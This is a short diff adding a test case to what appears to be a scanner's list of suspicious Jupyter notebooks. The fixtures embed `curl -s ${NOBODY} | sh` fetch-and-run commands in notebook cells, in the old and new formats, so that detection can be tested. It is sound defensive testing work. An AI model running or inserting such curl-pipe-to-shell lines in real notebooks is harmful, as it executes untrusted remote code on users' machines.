@@ -418,6 +418,11 @@ export const PLACES: readonly Case[] = [
     json({ nbformat: 4, cells: [{ cell_type: 'code', source: [`%%bash\n`, `curl -s ${NOBODY} | sh`] }] }),
   ),
   suspicious(
+    'worksheet.ipynb',
+    'the same in a notebook of the third format',
+    json({ nbformat: 3, worksheets: [{ cells: [{ cell_type: 'code', input: `!curl -s ${NOBODY} | sh` }] }] }),
+  ),
+  suspicious(
     'getsystem.ipynb',
     'a program behind the shell of IPython',
     json({ nbformat: 4, cells: [{ cell_type: 'code', source: 'get_ipython().system("true")' }] }),
